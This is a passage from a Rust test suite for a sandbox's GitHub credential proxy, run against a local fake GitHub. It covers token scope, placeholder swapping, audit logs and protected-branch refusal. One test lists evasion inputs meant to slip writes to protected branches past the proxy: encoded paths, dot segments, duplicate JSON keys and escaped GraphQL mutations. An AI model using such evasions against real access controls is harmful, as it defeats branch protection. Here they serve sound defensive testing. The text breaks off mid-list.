//! GitHub credential injection through the real CLI (`moat sandbox run
//! --github OWNER/REPO`), against a fake GitHub (`netkit/fake_github.py`:
//! plain HTTP on 127.0.0.1, written from GitHub's public REST docs and git's
//! smart HTTP protocol; no real GitHub is ever contacted). The fake verifies
//! the App JWT with a key pair made per test run with the openssl CLI, mints
//! and revokes installation tokens, enforces their scope, serves real git
//! repositories through `git http-backend`, and logs every request it gets:
//! what it never got is what the door refused.
//!
//! Real clients inside the sandbox: git (clone, push), curl and Python's
//! urllib. Also docs/threat-model.md C1 (the App key, the JWT and the installation
//! token are nowhere in the sandbox, moat's logs or the audit log) and C2 (the
//! placeholder sent anywhere else arrives unchanged; another credential is
//! refused), and the per-lease CA.
//!
//! These tests must never put a real secret anywhere but moat's environment
//! and the fake; the only key is the throwaway one made here.

mod githubkit;
mod netkit;

use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;

use githubkit::*;
use netkit::*;
use serde_json::{json, Value};

// ---------------------------------------------------------------------------
// Running moat with --github
// ---------------------------------------------------------------------------

/// `moat sandbox run` with the App's variables pointing at `fake`, at debug
/// log level, without any `--github` (the caller adds them).
fn gh_command(sb: &Sandbox, fake: &FakeGithub) -> Command {
    let mut c = sb.command();
    c.env("GITHUB_APP_ID", APP_ID)
        .env("GITHUB_APP_PRIVATE_KEY", &app_key().private_pem)
        .env("GITHUB_APP_INSTALLATION_ID", INSTALLATION)
        .env("MOAT_GITHUB_API_URL", fake.api_url())
        .env("MOAT_GITHUB_URL", fake.web_url())
        .env("MOAT_GITHUB_ALLOW_PLAIN_HTTP", "1")
        .env("MOAT_LOG", "debug");
    c
}

/// Runs `script` (with `t` from `SH_PRELUDE`, and `@O@`/`@R@`/`@R2@` filled)
/// in a sandbox with `args` (e.g. `--github O/R`).
fn run(sb: &Sandbox, fake: &FakeGithub, args: &[&str], script: &str) -> Out {
    let o = gh_command(sb, fake)
        .args(args)
        .args([
            "--",
            "/bin/sh",
            "-c",
            &format!("{SH_PRELUDE}\n{}", fill(script)),
        ])
        .output()
        .expect("running moat");
    Out {
        code: o.status.code(),
        stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
    }
}

fn repo_arg(repo: &str) -> String {
    format!("{OWNER}/{repo}")
}

fn assert_ok(out: &Out) {
    assert_eq!(
        out.code,
        Some(0),
        "stdout:\n{}\nstderr:\n{}",
        out.stdout,
        out.stderr
    );
}

/// The placeholder printed as `PH=...`, checked for its form.
fn placeholder(out: &Out) -> String {
    let ph = line(&out.stdout, "PH=");
    assert!(
        ph.starts_with("ghs_moat") && ph.len() >= 20,
        "GH_TOKEN is not a placeholder: {ph:?}"
    );
    ph
}

fn github_records(sb: &Sandbox) -> Vec<Value> {
    sb.audit()
        .records
        .into_iter()
        .filter(|r| r["kind"] == "github")
        .collect()
}

fn audit_text(sb: &Sandbox) -> String {
    std::fs::read_to_string(sb.dir.join("data").join("audit").join("audit.jsonl"))
        .unwrap_or_default()
}

/// Asserts a `github` audit record with these fields exists.
/// `status` `None`: any.
fn assert_github_record(
    sb: &Sandbox,
    method: &str,
    host: &str,
    path: &str,
    status: Option<u64>,
    verdict: &str,
) -> Value {
    let recs = github_records(sb);
    recs.iter()
        .find(|r| {
            r["method"] == method
                && r["host"] == host
                && r["path"] == path
                && status.is_none_or(|s| r["status"] == s)
                && r["verdict"] == verdict
        })
        .cloned()
        .unwrap_or_else(|| {
            panic!(
                "no github record {method} {host} {path} {status:?} {verdict} in:\n{}",
                recs.iter()
                    .map(|r| r.to_string())
                    .collect::<Vec<_>>()
                    .join("\n")
            )
        })
}

// ---------------------------------------------------------------------------
// The fake itself, on the host (no moat)
// ---------------------------------------------------------------------------

/// `curl` on the host: (HTTP status, body).
fn host_curl(args: &[&str]) -> (u16, String) {
    let o = Command::new("curl")
        .args(["-sS", "-m", "30", "-w", "\n%{http_code}"])
        .args(args)
        .output()
        .expect("curl");
    let text = String::from_utf8_lossy(&o.stdout).into_owned();
    let (body, code) = text.rsplit_once('\n').unwrap_or(("", &text));
    (code.trim().parse().unwrap_or(0), body.to_string())
}

fn host_mint(fake: &FakeGithub, jwt: &str, body: &Value) -> (u16, Value) {
    let (code, body) = host_curl(&[
        "-X",
        "POST",
        "-H",
        &format!("Authorization: Bearer {jwt}"),
        "-H",
        "Accept: application/vnd.github+json",
        "-d",
        &body.to_string(),
        &format!(
            "{}/app/installations/{INSTALLATION}/access_tokens",
            fake.api_url()
        ),
    ]);
    (code, serde_json::from_str(&body).unwrap_or(Value::Null))
}

fn host_git(dir: &Path, args: &[&str]) -> std::process::Output {
    Command::new("git")
        .args([
            "-c",
            "user.name=moat test",
            "-c",
            "user.email=test@moat.invalid",
            "-c",
            "credential.helper=",
        ])
        .args(args)
        .current_dir(dir)
        .env("GIT_TERMINAL_PROMPT", "0")
        .output()
        .expect("git")
}

#[test]
fn fake_github_serves_git_with_the_real_token() {
    let fake = FakeGithub::start();
    let t = now();
    let good = json!({"iat": t - 60, "exp": t + 540, "iss": APP_ID});
    let scope = json!({"repositories": [REPO], "permissions": {"contents": "write", "pull_requests": "write"}});

    // The JWT is checked: signature, iss, iat, exp.
    let jwt = sign_jwt(&good);
    let (sig_start, _) = jwt.rsplit_once('.').unwrap();
    let forged = format!("{sig_start}.{}", base64(&[7u8; 256], true));
    for (bad, why) in [
        (forged, "bad signature"),
        (
            sign_jwt(&json!({"iat": t - 60, "exp": t + 540, "iss": "1"})),
            "iss",
        ),
        (
            sign_jwt(&json!({"iat": t, "exp": t + 540, "iss": APP_ID})),
            "iat",
        ),
        (
            sign_jwt(&json!({"iat": t - 60, "exp": t + 3600, "iss": APP_ID})),
            "exp",
        ),
    ] {
        let (code, _) = host_mint(&fake, &bad, &scope);
        assert_eq!(code, 401, "a bad JWT ({why}) was accepted");
        assert!(
            fake.kind("jwt-refused")
                .iter()
                .any(|r| r["why"].as_str().unwrap().contains(why)),
            "{why}: {}",
            fake.text()
        );
    }
    // The scope is checked.
    let (code, _) = host_mint(
        &fake,
        &jwt,
        &json!({"repositories": ["other"], "permissions": {"contents": "read"}}),
    );
    assert_eq!(code, 422);
    let (code, _) = host_mint(
        &fake,
        &jwt,
        &json!({"repositories": [REPO], "permissions": {}}),
    );
    assert_eq!(code, 422);
    assert!(fake.tokens().is_empty());

    let (code, minted) = host_mint(&fake, &jwt, &scope);
    assert_eq!(code, 201, "{minted}");
    let token = minted["token"].as_str().unwrap().to_string();
    assert!(token.starts_with("ghs_") && token.len() == 40, "{token}");
    let rec = &fake.kind("minted")[0];
    assert_eq!(rec["token"], token.as_str());
    assert_eq!(minted["expires_at"], rec["expires_at"]);
    let exp = rec["expires_at_unix"].as_i64().unwrap();
    assert!((exp - now() - 3600).abs() < 60, "{rec}");

    // git smart HTTP: only with x-access-token and the real token.
    let (work, _) = fresh_dir("fake-self-test");
    let url = format!("http://127.0.0.1:{}/{OWNER}/{REPO}.git", fake.web_port);
    let with_token = format!(
        "http://x-access-token:{token}@127.0.0.1:{}/{OWNER}/{REPO}.git",
        fake.web_port
    );
    let o = host_git(&work, &["clone", "-q", &url, "anon"]);
    assert!(!o.status.success(), "cloned without a token");
    let o = host_git(
        &work,
        &[
            "clone",
            "-q",
            &url.replace("http://", &format!("http://someone:{token}@")),
            "user",
        ],
    );
    assert!(!o.status.success(), "cloned with another user name");
    let o = host_git(
        &work,
        &[
            "clone",
            "-q",
            &with_token.replace(&token, "ghs_wrong"),
            "wrong",
        ],
    );
    assert!(!o.status.success(), "cloned with a wrong token");
    let o = host_git(&work, &["clone", "-q", &with_token, "c"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let c = work.join("c");
    assert_eq!(git(&c, &["tag"]).lines().count(), TAGS);
    let refused = fake
        .kind("request")
        .into_iter()
        .filter(|r| r["status"] == 401 && r["path"].as_str().unwrap().contains("info/refs"))
        .count();
    assert!(refused >= 3, "{}", fake.text());
    // Without `.git` too, and gzip-encoded upload-pack requests.
    let o = host_git(
        &work,
        &["clone", "-q", with_token.trim_end_matches(".git"), "c2"],
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(
        fake.kind("request").iter().any(|r| r["path"]
            .as_str()
            .unwrap()
            .ends_with("/git-upload-pack")
            && r["headers"]["content-encoding"] == "gzip"
            && r["status"] == 200),
        "no gzip upload-pack request served: {}",
        fake.text()
    );

    // Push: a small one and a 3 MiB one (git sends that chunked).
    std::fs::write(c.join("f"), "x\n").unwrap();
    git(&c, &["add", "f"]);
    git(&c, &["commit", "-q", "-m", "f"]);
    let o = host_git(&c, &["push", "-q", "origin", "HEAD:feature-x"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(
        fake.branch(REPO, "feature-x"),
        Some(git(&c, &["rev-parse", "HEAD"]))
    );
    // Incompressible, so the pack stays over git's 1 MiB post buffer.
    let mut big = vec![0u8; 3 << 20];
    std::io::Read::read_exact(&mut std::fs::File::open("/dev/urandom").unwrap(), &mut big).unwrap();
    std::fs::write(c.join("big"), big).unwrap();
    git(&c, &["add", "big"]);
    git(&c, &["commit", "-q", "-m", "big"]);
    let o = host_git(&c, &["push", "-q", "origin", "HEAD:feature-big"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(
        fake.branch(REPO, "feature-big"),
        Some(git(&c, &["rev-parse", "HEAD"]))
    );
    assert!(
        fake.kind("request").iter().any(|r| r["path"]
            .as_str()
            .unwrap()
            .ends_with("/git-receive-pack")
            && r["headers"]["transfer-encoding"] == "chunked"
            && r["status"] == 200),
        "no chunked push served: {}",
        fake.text()
    );
    assert_eq!(
        fake.pushed_refs(),
        ["refs/heads/feature-x", "refs/heads/feature-big"]
    );
    assert_eq!(fake.branch(REPO, "main"), Some(fake.main0.clone()));

    // REST with the token (Bearer or `token`), scoped to its repositories.
    let api = |auth: &str, path: &str| {
        host_curl(&[
            "-H",
            &format!("Authorization: {auth}"),
            &format!("{}{path}", fake.api_url()),
        ])
    };
    let (code, body) = api(
        &format!("Bearer {token}"),
        &format!("/repos/{OWNER}/{REPO}"),
    );
    assert_eq!(code, 200, "{body}");
    let v: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v["full_name"], format!("{OWNER}/{REPO}"));
    assert_eq!(
        api(&format!("token {token}"), &format!("/repos/{OWNER}/{REPO}")).0,
        200
    );
    assert_eq!(
        api("Bearer ghs_wrong", &format!("/repos/{OWNER}/{REPO}")).0,
        401
    );
    assert_eq!(
        api(&basic(&token), &format!("/repos/{OWNER}/{REPO}")).0,
        401
    );
    assert_eq!(
        api(
            &format!("Bearer {token}"),
            &format!("/repos/{OWNER}/{REPO2}")
        )
        .0,
        404
    );
    // A contents write commits to the named branch.
    let (code, body) = host_curl(&[
        "-X",
        "PUT",
        "-H",
        &format!("Authorization: Bearer {token}"),
        "-d",
        r#"{"message":"via api","content":"aGkK","branch":"feature-x"}"#,
        &format!("{}/repos/{OWNER}/{REPO}/contents/api.txt", fake.api_url()),
    ]);
    assert_eq!(code, 201, "{body}");
    let tip = fake.branch(REPO, "feature-x").unwrap();
    let shown = git(
        &fake.bare(REPO),
        &["--git-dir", ".", "show", &format!("{tip}:api.txt")],
    );
    assert_eq!(shown, "hi");

    // Revoke: 204, then the token is dead.
    let (code, _) = host_curl(&[
        "-X",
        "DELETE",
        "-H",
        &format!("Authorization: Bearer {token}"),
        &format!("{}/installation/token", fake.api_url()),
    ]);
    assert_eq!(code, 204);
    assert_eq!(fake.kind("revoked")[0]["token"], token.as_str());
    assert_eq!(
        api(
            &format!("Bearer {token}"),
            &format!("/repos/{OWNER}/{REPO}")
        )
        .0,
        401
    );
    let o = host_git(&work, &["clone", "-q", &with_token, "after"]);
    assert!(!o.status.success(), "cloned with a revoked token");
}

// ---------------------------------------------------------------------------
// Through moat
// ---------------------------------------------------------------------------

const GIT_SETUP: &str = r#"
git config --global user.name agent
git config --global user.email agent@moat.invalid
echo "PH=$GH_TOKEN"
"#;

fn git_push_protection(b: Backend) {
    let fake = FakeGithub::start();
    let sb = Sandbox::new(b, "gh-git");
    let out = run(
        &sb,
        &fake,
        &["--github", &repo_arg(REPO)],
        &(GIT_SETUP.to_string()
            + r#"
t clone git clone -q https://github.com/@O@/@R@.git /tmp/r
cd /tmp/r || exit 3
echo "TAGS=$(git tag | wc -l)"
echo change > feature.txt && git add feature.txt && git commit -q -m feature
echo "HEAD=$(git rev-parse HEAD)"
t push_feature git push origin HEAD:feature-x
t push_main git push origin HEAD:main
t push_main_full git push origin HEAD:refs/heads/main
t push_master git push origin HEAD:master
t push_both git push origin HEAD:feature-y HEAD:main
t delete_main git push origin :main
t force_main git push -f origin HEAD:main
t clone_nodotgit git clone -q https://github.com/@O@/@R@ /tmp/r2
t clone_placeholder git clone -q "https://x-access-token:$GH_TOKEN@github.com/@O@/@R@.git" /tmp/r3
head -c 3000000 /dev/urandom > big && git add big && git commit -q -m big
echo "BIG=$(git rev-parse HEAD)"
t push_big_feature git push origin HEAD:feature-big
t push_big_main git push origin HEAD:main
"#),
    );
    assert_ok(&out);
    let ph = placeholder(&out);
    let p = out.probes();
    p.succeeded("clone", "");
    assert_eq!(line(&out.stdout, "TAGS="), TAGS.to_string());
    p.succeeded("push_feature", "");
    for name in [
        "push_main",
        "push_main_full",
        "push_master",
        "delete_main",
        "force_main",
    ] {
        p.failed(name, None, "protected");
        let o = p.out(name);
        assert!(o.contains("[remote rejected]"), "{name}: {o}");
        assert!(o.contains("remote: moat:"), "{name}: {o}");
    }
    p.failed("push_both", None, "");
    p.succeeded("clone_nodotgit", "");
    p.succeeded("clone_placeholder", "");
    // A 3 MB pack (sent chunked, after git's probe request): the ref updates
    // are still read.
    p.succeeded("push_big_feature", "");
    p.failed("push_big_main", None, "protected");
    assert_eq!(
        fake.branch(REPO, "feature-big"),
        Some(line(&out.stdout, "BIG="))
    );

    let head = line(&out.stdout, "HEAD=");
    assert_eq!(fake.branch(REPO, "feature-x"), Some(head));
    assert_eq!(
        fake.branch(REPO, "main"),
        Some(fake.main0.clone()),
        "main moved"
    );
    assert_eq!(fake.branch(REPO, "master"), None, "master was created");
    let pushed = fake.pushed_refs();
    assert!(
        pushed.contains(&"refs/heads/feature-x".to_string()),
        "{pushed:?}"
    );
    assert!(
        !pushed
            .iter()
            .any(|r| r == "refs/heads/main" || r == "refs/heads/master"),
        "a push to a protected branch reached receive-pack: {pushed:?}"
    );
    fake.assert_swapped(&[&ph]);
    // Audit: the refused push, with a reason.
    let refused = assert_github_record(
        &sb,
        "POST",
        "github.com",
        &format!("/{OWNER}/{REPO}.git/git-receive-pack"),
        None,
        "denied",
    );
    assert!(
        refused["reason"]
            .as_str()
            .is_some_and(|r| r.contains("protected")),
        "{refused}"
    );
    assert_github_record(
        &sb,
        "GET",
        "github.com",
        &format!("/{OWNER}/{REPO}.git/info/refs"),
        Some(200),
        "allowed",
    );

    // --protect-branch replaces the defaults.
    let sb = Sandbox::new(b, "gh-git-release");
    let out = run(
        &sb,
        &fake,
        &["--github", &repo_arg(REPO), "--protect-branch", "release"],
        &(GIT_SETUP.to_string()
            + r#"
t clone git clone -q https://github.com/@O@/@R@.git /tmp/r
cd /tmp/r || exit 3
echo release > release.txt && git add release.txt && git commit -q -m release
echo "HEAD=$(git rev-parse HEAD)"
t push_release git push origin HEAD:release
t push_main git push origin HEAD:main
t push_master git push origin HEAD:master
"#),
    );
    assert_ok(&out);
    let p = out.probes();
    p.succeeded("clone", "");
    p.failed("push_release", None, "protected");
    p.succeeded("push_main", "");
    p.succeeded("push_master", "");
    let head = line(&out.stdout, "HEAD=");
    assert_eq!(fake.branch(REPO, "release"), None, "release was created");
    assert_eq!(fake.branch(REPO, "main"), Some(head));
    assert!(!fake
        .pushed_refs()
        .contains(&"refs/heads/release".to_string()));
}

/// Every git on this machine (Debian's, and the newer one under /usr/local
/// that the sandboxes' PATH finds first): a missing one fails the test.
const GITS: [&str; 2] = ["/usr/bin/git", "/usr/local/bin/git"];

/// A refused push reads as git's own refusal in every git version: the
/// `[remote rejected]` line and moat's `remote: moat:` reason, never an
/// `RPC failed` with an HTTP status; and the fake GitHub's repository got
/// nothing (its branches are as they were).
fn git_push_refusal_reads_the_same_in_each_git(b: Backend) {
    for g in GITS {
        assert!(
            Path::new(g).is_file(),
            "{g} is not installed: this test runs both gits moat's machines have (Debian's, and a newer one under /usr/local/bin, which scripts/setup does not install)"
        );
    }
    let fake = FakeGithub::start();
    let sb = Sandbox::new(b, "gh-git-each");
    let mut script = GIT_SETUP.to_string();
    for (i, g) in GITS.iter().enumerate() {
        script += &format!(
            r#"
echo "GIT{i}=$({g} --version)"
t clone{i} {g} clone -q https://github.com/@O@/@R@.git /tmp/r{i}
cd /tmp/r{i} || exit 3
echo change{i} > f{i}.txt && {g} add f{i}.txt && {g} commit -q -m change{i}
t push_main{i} {g} push origin HEAD:main
t push_both{i} {g} push origin HEAD:feature-each{i} HEAD:refs/heads/master
t push_delete{i} {g} push origin :main
head -c 3000000 /dev/urandom > big{i} && {g} add big{i} && {g} commit -q -m big{i}
t push_big{i} {g} push origin HEAD:main
t clone_shallow{i} {g} clone -q --depth 1 https://github.com/@O@/@R@.git /tmp/s{i}
cd /tmp/s{i} || exit 3
echo shallow{i} > s{i}.txt && {g} add s{i}.txt && {g} commit -q -m shallow{i}
t push_shallow{i} {g} push origin HEAD:main
cd /
"#
        );
    }
    let out = run(&sb, &fake, &["--github", &repo_arg(REPO)], &script);
    assert_ok(&out);
    let p = out.probes();
    let reason = "remote: moat: pushes to the protected branch";
    for (i, g) in GITS.iter().enumerate() {
        let version = line(&out.stdout, &format!("GIT{i}="));
        p.succeeded(&format!("clone{i}"), "");
        p.succeeded(&format!("clone_shallow{i}"), "");
        for (name, refname, branch) in [
            ("push_main", "main", "main"),
            ("push_both", "master", "master"),
            ("push_delete", "main", "main"),
            // A pack over git's 1 MiB post buffer: sent chunked, after a probe.
            ("push_big", "main", "main"),
            // From a shallow clone: `shallow` lines come before the commands.
            ("push_shallow", "main", "main"),
        ] {
            let name = format!("{name}{i}");
            let o = p.out(&name);
            p.failed(&name, None, "");
            assert!(
                o.contains(&format!("{reason} {branch} are refused")),
                "{g} ({version}) {name}: no moat reason: {o}"
            );
            assert!(
                o.contains("! [remote rejected]") && o.contains(&format!(" {refname} (")),
                "{g} ({version}) {name}: no [remote rejected] line for {refname}: {o}"
            );
            assert!(
                !o.contains("RPC failed") && !o.contains("HTTP 403"),
                "{g} ({version}) {name}: {o}"
            );
        }
    }
    // Nothing reached the repository: its branches are as they were.
    assert_eq!(
        fake.branch(REPO, "main"),
        Some(fake.main0.clone()),
        "main moved"
    );
    assert_eq!(fake.branch(REPO, "master"), None, "master was created");
    for i in 0..GITS.len() {
        assert_eq!(fake.branch(REPO, &format!("feature-each{i}")), None);
    }
    assert!(
        fake.pushed_refs().is_empty(),
        "a refused push reached receive-pack: {:?}",
        fake.pushed_refs()
    );
}

const API_PY: &str = r#"
import json, os, urllib.request
req = urllib.request.Request("https://api.github.com/repos/%s" % os.environ["REPO"],
                             headers={"Authorization": "Bearer " + os.environ["GH_TOKEN"],
                                      "Accept": "application/vnd.github+json"})
with urllib.request.urlopen(req, timeout=30) as r:
    print("PY=" + json.dumps({"status": r.status, "body": json.load(r)}))
"#;

fn api_clients(b: Backend) {
    let fake = FakeGithub::start();
    let marker = random_hex(8);
    let mut sb = Sandbox::new(b, "gh-api");
    sb.file("api.py", API_PY.as_bytes())
        .env("REPO", &repo_arg(REPO));
    let out = run(
        &sb,
        &fake,
        &["--github", &repo_arg(REPO)],
        &r#"
echo "PH=$GH_TOKEN"
echo "PH2=$GITHUB_TOKEN"
for v in SSL_CERT_FILE GIT_SSL_CAINFO NODE_EXTRA_CA_CERTS REQUESTS_CA_BUNDLE CURL_CA_BUNDLE; do eval "echo CA_$v=\$$v"; done
echo "CURL=$(curl -sS -f -m 30 -H "Authorization: Bearer $GH_TOKEN" https://api.github.com/repos/@O@/@R@)"
echo "CURL_TOKEN=$(curl -sS -f -m 30 -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/@O@/@R@)"
echo "CURL_NOAUTH=$(curl -sS -f -m 30 'https://api.github.com/repos/@O@/@R@?marker=MARKER')"
echo "OTHER=$(curl -sS -m 30 -w ' %{http_code}' -H 'Authorization: Bearer ghs_0123456789abcdefnotmine0123456789abcd' https://api.github.com/repos/@O@/@R@)"
echo "OTHER_GIT=$(curl -sS -m 30 -o /dev/null -w '%{http_code}' -u x-access-token:ghs_0123456789abcdefnotmine0123456789abcd 'https://github.com/@O@/@R@.git/info/refs?service=git-upload-pack')"
echo "NOT_SCOPED=$(curl -sS -m 30 -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $GH_TOKEN" https://api.github.com/repos/@O@/@R2@)"
python3 /workspace/api.py
"#
        .replace("MARKER", &marker),
    );
    assert_ok(&out);
    let ph = placeholder(&out);
    assert_eq!(
        line(&out.stdout, "PH2="),
        ph,
        "GITHUB_TOKEN differs from GH_TOKEN"
    );
    for v in [
        "SSL_CERT_FILE",
        "GIT_SSL_CAINFO",
        "NODE_EXTRA_CA_CERTS",
        "REQUESTS_CA_BUNDLE",
        "CURL_CA_BUNDLE",
    ] {
        assert_eq!(
            line(&out.stdout, &format!("CA_{v}=")),
            "/run/moat/ca-bundle.pem",
            "{v}"
        );
    }
    for k in ["CURL=", "CURL_TOKEN=", "CURL_NOAUTH="] {
        let v: Value = serde_json::from_str(&line(&out.stdout, k))
            .unwrap_or_else(|e| panic!("{k} {e}: {}\n{}", out.stdout, out.stderr));
        assert_eq!(v["full_name"], repo_arg(REPO), "{k}");
        assert_eq!(v["private"], true, "{k}");
    }
    let other = line(&out.stdout, "OTHER=");
    assert!(
        other.ends_with(" 401"),
        "another credential was not refused: {other}"
    );
    assert_eq!(line(&out.stdout, "OTHER_GIT="), "401");
    // Outside the token's scope: the fake's 404, or the door's own 403.
    let not_scoped = line(&out.stdout, "NOT_SCOPED=");
    assert!(
        not_scoped == "404" || not_scoped == "403",
        "a repository outside the scope answered {not_scoped}"
    );
    let py: Value = serde_json::from_str(&line(&out.stdout, "PY=")).unwrap();
    assert_eq!(py["status"], 200);
    assert_eq!(py["body"]["full_name"], repo_arg(REPO));

    fake.assert_swapped(&[&ph]);
    let text = fake.text();
    assert!(
        !text.contains("notmine"),
        "another credential reached the fake:\n{text}"
    );
    let repo_gets = fake
        .sandbox_requests()
        .iter()
        .filter(|r| {
            r["method"] == "GET"
                && r["path"]
                    .as_str()
                    .unwrap()
                    .starts_with(&format!("/repos/{OWNER}/{REPO}"))
                && r["status"] == 200
        })
        .count();
    assert_eq!(repo_gets, 4, "curl x3 and python:\n{text}");

    assert_github_record(
        &sb,
        "GET",
        "api.github.com",
        &format!("/repos/{OWNER}/{REPO}"),
        Some(200),
        "allowed",
    );
    let denied = assert_github_record(
        &sb,
        "GET",
        "api.github.com",
        &format!("/repos/{OWNER}/{REPO}"),
        Some(401),
        "denied",
    );
    assert!(
        denied["reason"].as_str().is_some_and(|r| !r.is_empty()),
        "{denied}"
    );
    assert_github_record(
        &sb,
        "GET",
        "github.com",
        &format!("/{OWNER}/{REPO}.git/info/refs"),
        Some(401),
        "denied",
    );
    let audit = audit_text(&sb);
    assert!(
        !audit.contains(&marker),
        "a query string is in the audit log"
    );
    assert!(!audit.contains(&ph), "the placeholder is in the audit log");
}

fn api_push_protection(b: Backend) {
    let fake = FakeGithub::start();
    let c1 = fake.host_branch(REPO, "feature-x", "base.txt");
    let main0 = fake.main0.clone();
    let sb = Sandbox::new(b, "gh-api-protect");
    let upper_o = OWNER.to_uppercase();
    let upper_r = REPO.to_uppercase();
    let script = r#"
echo "PH=$GH_TOKEN"
api() { m=$1; p=$2; shift 2; curl -sS -m 30 -w ' %{http_code}' -X "$m" -H "Authorization: Bearer $GH_TOKEN" -H "Accept: application/vnd.github+json" "https://api.github.com$p" "$@"; echo; }
R=/repos/@O@/@R@
echo "PATCH_MAIN=$(api PATCH $R/git/refs/heads/main -d '{"sha":"%C1%","force":true}')"
echo "PATCH_MAIN_CASE=$(api PATCH /repos/%UO%/%UR%/git/refs/heads/main -d '{"sha":"%C1%","force":true}')"
echo "DELETE_MAIN=$(api DELETE $R/git/refs/heads/main)"
echo "PATCH_MASTER=$(api PATCH $R/git/refs/heads/master -d '{"sha":"%C1%","force":true}')"
echo "CREATE_MAIN=$(api POST $R/git/refs -d '{"ref":"refs/heads/main","sha":"%C1%"}')"
echo "PUT_NOBRANCH=$(api PUT $R/contents/api.txt -d '{"message":"m","content":"aGkK"}')"
echo "PUT_MAIN=$(api PUT $R/contents/api.txt -d '{"message":"m","content":"aGkK","branch":"main"}')"
echo "DELETE_CONTENTS=$(api DELETE $R/contents/README -d '{"message":"m","sha":"0000000000000000000000000000000000000000"}')"
echo "MERGE_MAIN=$(api POST $R/merges -d '{"base":"main","head":"feature-x"}')"
echo "PR_MERGE=$(api PUT $R/pulls/1/merge -d '{}')"
echo "GQL_COMMIT=$(api POST /graphql -d '{"query":"mutation { createCommitOnBranch(input: {branch: {repositoryNameWithOwner: \"@O@/@R@\", branchName: \"main\"}, message: {headline: \"x\"}, expectedHeadOid: \"%M0%\"}) { commit { oid } } }"}')"
echo "GQL_ALIAS=$(api POST /graphql -d '{"query":"mutation Sneaky { x: createCommitOnBranch(input: $i) { commit { oid } } }","variables":{"i":{"branch":{"repositoryNameWithOwner":"@O@/@R@","branchName":"main"}}}}')"
echo "GQL_MERGE=$(api POST /graphql -d '{"query":"mutation { mergePullRequest(input: {pullRequestId: \"PR_1\"}) { clientMutationId } }"}')"
echo "GQL_UPDATEREF=$(api POST /graphql -d '{"query":"mutation { updateRef(input: {refId: \"REF_1\", oid: \"%C1%\", force: true}) { clientMutationId } }"}')"
echo "GQL_UPDATEREFS=$(api POST /graphql -d '{"query":"mutation { updateRefs(input: {repositoryId: \"R_1\", refUpdates: []}) { clientMutationId } }"}')"
echo "GQL_DELETEREF=$(api POST /graphql -d '{"query":"mutation { deleteRef(input: {refId: \"REF_1\"}) { clientMutationId } }"}')"
echo "GQL_CREATEREF=$(api POST /graphql -d '{"query":"mutation { createRef(input: {repositoryId: \"R_1\", name: \"refs/heads/main\", oid: \"%C1%\"}) { clientMutationId } }"}')"
echo "EV_PERCENT=$(api PATCH $R/git/refs/heads/ma%69n -d '{"sha":"%C1%","force":true}')"
echo "EV_SLASH=$(api PATCH $R/git/refs/heads%2Fmain -d '{"sha":"%C1%","force":true}')"
echo "EV_REPO_PERCENT=$(api PATCH /repos/@O@/%UR1%%70o/git/refs/heads/main -d '{"sha":"%C1%","force":true}')"
echo "EV_LOWER_METHOD=$(api patch $R/git/refs/heads/main -d '{"sha":"%C1%","force":true}')"
echo "EV_REPO_ID=$(api PATCH /repositories/1000/git/refs/heads/main -d '{"sha":"%C1%","force":true}')"
echo "EV_TRAILING=$(api PATCH $R/git/refs/heads/main/ -d '{"sha":"%C1%","force":true}')"
echo "EV_DOUBLE_SLASH=$(api PATCH //repos/@O@/@R@/git/refs/heads/main -d '{"sha":"%C1%","force":true}')"
echo "EV_FULL_REF=$(api PUT $R/contents/api.txt -d '{"message":"m","content":"aGkK","branch":"refs/heads/main"}')"
echo "EV_DUP_KEY=$(api PUT $R/contents/api.txt -d '{"message":"m","content":"aGkK","branch":"feature-x","branch":"main"}')"
echo "EV_GQL_ESCAPE=$(api POST /graphql -d '{"query":"mutation { createCommit\u004fnBranch(input: {}) { commit { oid } } }"}')"
echo "EV_GQL_ESCAPE2=$(api POST /graphql -d '{"query":"\u006dutation { createCommitOnBranch(input: {}) { commit { oid } } }"}')"
echo "EV_GQL_COMMENT=$(api POST /graphql -d '{"query":"mutation { #x\n createCommitOnBranch(input: {}) { commit { oid } } }"}')"
echo "EV_GQL_BATCH=$(api POST /graphql -d '[{"query":"query { viewer { login } }"},{"query":"mutation { createCommitOnBranch(input: {}) { commit { oid } } }"}]')"
echo "EV_GQL_GET=$(api GET '/graphql?query=mutation%7BcreateCommitOnBranch(input:%7B%7D)%7Bcommit%7Boid%7D%7D%7D')"
echo "EV_DOT_SEGMENT=$(curl -sS --path-as-is -m 30 -w ' %{http_code}' -X PATCH -H "Authorization: Bearer $GH_TOKEN" "https://api.github.com$R/git/refs/heads/x/../main" -d '{"sha":"%C1%","force":true}'; echo)"
echo "EV_GZIP_BODY=$(printf '{"message":"m","content":"aGkK","branch":"main"}' | gzip | curl -sS -m 30 -w ' %{http_code}' -X PUT -H "Authorization: Bearer $GH_TOKEN" -H 'Content-Encoding: gzip' --data-binary @- https://api.github.com$R/contents/api.txt; echo)"
echo "PUT_FEATURE=$(api PUT $R/contents/api.txt -d '{"message":"via api","content":"aGkK","branch":"feature-x"}')"
echo "GQL_QUERY=$(api POST /graphql -d '{"query":"query { repository(owner: \"@O@\", name: \"@R@\") { name } }"}')"
"#
    .replace("%C1%", &c1)
    .replace("%M0%", &main0)
    .replace("%UO%", &upper_o)
    .replace("%UR%", &upper_r)
    .replace("%UR1%", &REPO[..REPO.len() - 2]);
    let out = run(&sb, &fake, &["--github", &repo_arg(REPO)], &script);
    assert_ok(&out);
    let ph = placeholder(&out);
    for k in [
        "PATCH_MAIN",
        "PATCH_MAIN_CASE",
        "DELETE_MAIN",
        "PATCH_MASTER",
        "CREATE_MAIN",
        "PUT_NOBRANCH",
        "PUT_MAIN",
        "DELETE_CONTENTS",
        "MERGE_MAIN",
        "GQL_COMMIT",
        "GQL_ALIAS",
        "GQL_MERGE",
        "GQL_UPDATEREF",
        "GQL_UPDATEREFS",
        "GQL_DELETEREF",
        "GQL_CREATEREF",
        "EV_PERCENT",
